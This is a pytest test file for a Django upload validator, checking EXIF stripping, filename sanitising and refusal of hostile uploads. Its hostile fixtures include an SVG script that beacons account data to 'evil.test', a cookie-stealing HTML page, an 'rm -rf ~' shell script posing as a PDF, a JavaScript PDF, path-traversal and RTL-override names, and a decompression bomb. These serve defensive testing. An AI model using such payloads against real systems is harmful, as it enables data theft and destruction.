"""dhanwantari.uploads.validate_upload, tried with honest files and with hostile ones.

Each hostile file is refused with its own reason; honest images come back
re-encoded, without EXIF (so without GPS), and PDFs come back as they were.
"""

from __future__ import annotations

import hashlib
import io
from functools import cache

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageFile

from dhanwantari import uploads
from dhanwantari.uploads import (
    DOCUMENT_TYPES,
    IMAGE_TYPES,
    MAX_DOCUMENT_BYTES,
    MAX_PHOTO_BYTES,
    UploadRejected,
    square_jpeg,
    validate_upload,
)

# --- honest files -------------------------------------------------------------------

GPS_IFD = 0x8825
MAKE = 0x010F
ORIENTATION = 0x0112


def image_bytes(fmt: str = "JPEG", *, size=(640, 480), mode="RGB", colour=(180, 40, 40), **save) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, colour).save(buffer, format=fmt, **save)
    return buffer.getvalue()


def jpeg_with_gps(*, orientation: int | None = None, size=(640, 480)) -> bytes:
    exif = Image.Exif()
    exif[MAKE] = "PhoneMaker"
    exif[GPS_IFD] = {1: "N", 2: (18.0, 31.0, 13.5), 3: "E", 4: (73.0, 51.0, 24.2)}
    if orientation:
        exif[ORIENTATION] = orientation
    return image_bytes("JPEG", size=size, exif=exif.tobytes())


@cache
def pdf_bytes() -> bytes:
    # Made once: Pillow stamps the PDF with the current second, and tests
    # compare what was stored with what they uploaded.
    return image_bytes("PDF", size=(200, 280), colour=(255, 255, 255))


def upload(data: bytes, name: str = "file.bin") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


def test_a_jpeg_with_gps_comes_out_without_any_exif():
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get(GPS_IFD) is not None  # the test file really has GPS

    checked = validate_upload(upload(original, "clinic.jpg"), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES)

    cleaned = Image.open(io.BytesIO(checked.content))
    assert dict(cleaned.getexif()) == {}
    assert "exif" not in cleaned.info and "xmp" not in cleaned.info
    assert b"PhoneMaker" not in checked.content
    assert (checked.content_type, checked.extension, checked.original_name) == ("image/jpeg", "jpg", "clinic.jpg")
    assert (checked.width, checked.height) == (640, 480)


def test_what_comes_back_describes_the_bytes_to_store():
    checked = validate_upload(upload(image_bytes("PNG"), "scan.png"), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES)

    assert checked.size == len(checked.content)
    assert checked.sha256 == hashlib.sha256(checked.content).hexdigest()
    assert checked.content.startswith(b"\x89PNG")


def test_a_sideways_phone_photo_is_turned_upright_before_its_exif_is_dropped():
    # Orientation 6: the camera was turned; viewers rotate the stored 640×480 to 480×640.
    checked = validate_upload(
        upload(jpeg_with_gps(orientation=6), "portrait.jpg"), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES
    )

    assert (checked.width, checked.height) == (480, 640)
    assert Image.open(io.BytesIO(checked.content)).size == (480, 640)


def test_a_png_keeps_its_transparency():
    original = image_bytes("PNG", mode="RGBA", colour=(0, 0, 0, 0))

    checked = validate_upload(upload(original, "stamp.png"), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES)

    assert Image.open(io.BytesIO(checked.content)).mode == "RGBA"


def test_a_webp_is_accepted_and_reencoded():
    checked = validate_upload(upload(image_bytes("WEBP"), "me.webp"), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES)

    assert checked.content_type == "image/webp"
    assert Image.open(io.BytesIO(checked.content)).format == "WEBP"


def test_a_pdf_is_accepted_unchanged():
    original = pdf_bytes()

    checked = validate_upload(upload(original, "certificate.pdf"), allowed=DOCUMENT_TYPES, max_bytes=MAX_DOCUMENT_BYTES)

    assert checked.content == original
    assert (checked.content_type, checked.extension) == ("application/pdf", "pdf")


@pytest.mark.parametrize(
    "given, shown",
    [
        ("certificate", "certificate.pdf"),  # no extension: the right one is added
        ("scan 12.2019", "scan 12.2019.pdf"),  # a dot that names no type is part of the name
        ("  .hidden.pdf ", "hidden.pdf"),  # leading dots would hide the file on a desktop
        ("we<ird>:na|me?.pdf", "we_ird__na_me_.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_the_name_kept_for_display_is_made_safe(given, shown):
    checked = validate_upload(upload(pdf_bytes(), given), allowed=DOCUMENT_TYPES, max_bytes=MAX_DOCUMENT_BYTES)

    assert checked.original_name == shown


def test_an_image_named_as_another_image_format_gets_the_right_extension():
    checked = validate_upload(upload(image_bytes("JPEG"), "photo.png"), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES)

    assert (checked.content_type, checked.original_name) == ("image/jpeg", "photo.jpg")


def test_square_jpeg_crops_to_a_512_pixel_square():
    checked = validate_upload(upload(jpeg_with_gps(size=(1200, 800))), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES)

    square = Image.open(io.BytesIO(square_jpeg(checked)))

    assert (square.format, square.size) == ("JPEG", (512, 512))
    assert dict(square.getexif()) == {}


# --- hostile files --------------------------------------------------------------------


def decompression_bomb() -> bytes:
    # 64 million blank pixels: a few kilobytes on disk, 64 MB (or far more) once decoded.
    return image_bytes("PNG", size=(8000, 8000), mode="1", colour=0)


def named(data: bytes, name: str) -> ContentFile:
    # ContentFile keeps the name exactly as given; Django's upload handlers
    # would already have cut a path down to its last part.
    return ContentFile(data, name=name)


PNG_HEADER = b"\x89PNG\r\n\x1a\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 240 + b"This program cannot be run in DOS mode"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/account/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.test', t))</script></svg>"
)
PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JS_PDF = b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"

HOSTILE = [
    pytest.param(lambda: upload(PNG_HEADER + PAGE, "cat.png"), "markup", id="HTML behind a PNG header"),
    pytest.param(
        lambda: upload(PNG_HEADER + b"\x00" * 2000 + PAGE, "cat.png"), "damaged_image", id="HTML deep in a PNG"
    ),
    pytest.param(lambda: upload(PAGE, "cat.png"), "markup", id="an HTML page renamed .png"),
    pytest.param(lambda: upload(SVG_WITH_SCRIPT, "logo.png"), "markup", id="an SVG with a script renamed .png"),
    pytest.param(lambda: upload(SVG_WITH_SCRIPT, "logo.svg"), "markup", id="an SVG with a script"),
    pytest.param(lambda: upload(b"#!/bin/sh\nrm -rf ~\n", "certificate.pdf"), "markup", id="a shell script as .pdf"),
    pytest.param(lambda: upload(EXE, "certificate.pdf"), "not_allowed", id="an .exe renamed .pdf"),
    pytest.param(lambda: upload(pdf_bytes(), "x.pdf.exe"), "name_mismatch", id="a PDF named x.pdf.exe"),
    pytest.param(lambda: upload(pdf_bytes(), "certificate.html"), "name_mismatch", id="a PDF named .html"),
    pytest.param(lambda: upload(image_bytes(), "scan.pdf"), "name_mismatch", id="a JPEG named .pdf"),
    pytest.param(lambda: named(pdf_bytes(), "../../etc/passwd"), "bad_name", id="../../etc/passwd"),
    pytest.param(lambda: named(pdf_bytes(), "..\\..\\Windows\\win.ini"), "bad_name", id="a Windows path"),
    pytest.param(lambda: named(pdf_bytes(), "certificate\u202efdp.exe"), "bad_name", id="a right-to-left override"),
    pytest.param(lambda: named(pdf_bytes(), "certificate.pdf\x00.exe"), "bad_name", id="a NUL byte in the name"),
    pytest.param(lambda: upload(decompression_bomb(), "bomb.png"), "too_many_pixels", id="a decompression bomb"),
    pytest.param(lambda: upload(b"", "empty.pdf"), "empty", id="an empty file"),
    pytest.param(lambda: upload(image_bytes("GIF"), "a.gif"), "not_allowed", id="a GIF"),
    pytest.param(lambda: upload(b"PK\x03\x04" + b"\x00" * 100, "docs.zip"), "not_allowed", id="a ZIP archive"),
    pytest.param(lambda: upload(b"MH-HOM-12345 registered 2019", "reg.txt"), "unknown_type", id="plain text"),
    pytest.param(lambda: upload(image_bytes("PNG", size=(300, 300))[:80], "s.png"), "damaged_image", id="a cut PNG"),
    pytest.param(lambda: upload(pdf_bytes()[:-40], "certificate.pdf"), "damaged_pdf", id="a cut PDF"),
    pytest.param(lambda: upload(JS_PDF, "certificate.pdf"), "active_pdf", id="a PDF that runs JavaScript"),
]


@pytest.mark.parametrize("make_file, reason", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason(make_file, reason):
    with pytest.raises(UploadRejected) as refused:
        validate_upload(make_file(), allowed=DOCUMENT_TYPES, max_bytes=MAX_DOCUMENT_BYTES)

    assert refused.value.reason == reason
    assert refused.value.code == reason
    assert refused.value.messages[0]  # a sentence a person can act on


def test_an_image_over_the_pixel_limit_is_refused_before_it_is_decoded(monkeypatch):
    loaded = []
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda self: loaded.append(self) or None)

    with pytest.raises(UploadRejected, match="64 megapixels"):
        validate_upload(upload(decompression_bomb(), "bomb.png"), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES)

    assert loaded == []


def test_a_file_over_the_cap_is_refused_with_both_sizes():
    data = image_bytes("PNG", size=(200, 200), mode="RGB", colour=(1, 2, 3)) + b"\x00" * 3000

    with pytest.raises(UploadRejected) as refused:
        validate_upload(upload(data, "big.png"), allowed=IMAGE_TYPES, max_bytes=2048)

    assert refused.value.reason == "too_large"
    assert "2 KB" in refused.value.messages[0]


def test_a_stream_without_a_size_is_read_only_up_to_the_cap():
    class Endless(io.RawIOBase):
        name = "endless.pdf"
        served = 0

        def readable(self):
            return True

        def read(self, n=-1):
            assert n != -1, "validate_upload must never read without a limit"
            self.served += n
            return b"%PDF-1.4\n" + b"0" * (n - 9)

    stream = Endless()

    with pytest.raises(UploadRejected) as refused:
        validate_upload(stream, allowed=DOCUMENT_TYPES, max_bytes=MAX_DOCUMENT_BYTES)

    assert refused.value.reason == "too_large"
    assert stream.served == MAX_DOCUMENT_BYTES + 1


def test_a_type_allowed_elsewhere_is_refused_where_it_is_not():
    # A PDF is a fine document, but not a profile photo.
    with pytest.raises(UploadRejected) as refused:
        validate_upload(upload(pdf_bytes(), "me.pdf"), allowed=IMAGE_TYPES, max_bytes=MAX_PHOTO_BYTES)

    assert refused.value.reason == "not_allowed"
    assert refused.value.messages[0] == uploads.NOT_ALLOWED.format(
        found="a PDF document", allowed="JPEG, PNG or WebP images"
    )


def test_asking_for_a_type_it_cannot_check_is_a_programming_error():
    with pytest.raises(ValueError, match="cannot check"):
        validate_upload(upload(pdf_bytes()), allowed={"image/gif"}, max_bytes=MAX_DOCUMENT_BYTES)
